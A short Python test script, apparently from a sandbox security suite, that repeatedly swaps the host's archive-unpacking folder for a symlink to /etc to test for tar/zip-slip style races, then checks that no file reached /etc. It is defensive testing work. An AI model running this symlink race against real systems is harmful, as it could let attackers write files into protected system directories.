# Group: races
# Tries: swap the folder that the host unpacks an archive into for a link, again and again.
# Idea: tar and zip slips in sandboxes that take archives; containerd CVE-2021-41103 and moby's unpacking.
# Outcome: the files of the archive are where they belong or nowhere.
# Host: unpacks
import glob
import os
import shutil
import time

from attack import check

os.makedirs("/home/user/elsewhere", exist_ok=True)
end = time.monotonic() + 0.8
while time.monotonic() < end:
    try:
        os.makedirs("/home/user/target/folder", exist_ok=True)
        os.rename("/home/user/target/folder", "/home/user/put-aside-%d" % time.monotonic_ns())
        os.symlink("/etc", "/home/user/target/folder")
        os.unlink("/home/user/target/folder")
    except OSError:
        pass
for path in glob.glob("/home/user/put-aside-*"):
    shutil.rmtree(path)
check("nothing in /etc", not os.path.exists("/etc/from-the-host"))
